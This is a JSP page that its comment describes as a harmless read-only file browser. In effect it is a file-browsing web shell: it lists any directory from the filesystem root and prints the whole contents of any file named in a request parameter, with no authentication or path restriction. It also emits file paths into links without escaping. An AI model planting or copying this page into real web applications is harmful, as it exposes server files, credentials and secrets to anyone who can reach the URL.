<%@ page import="java.nio.file.*" %>
<%
// A read-only browser on java.nio: any folder listed, any file read whole, both named by the request.
String d = request.getParameter("d");
String f = request.getParameter("f");
if (f != null) {
    out.print(new String(Files.readAllBytes(Paths.get(f))));
} else {
    try (DirectoryStream<Path> ds = Files.newDirectoryStream(Paths.get(d == null ? "/" : d))) {
        for (Path p : ds) out.println("<a href='?d=" + p + "'>" + p.getFileName() + "</a><br>");
    }
}
%>
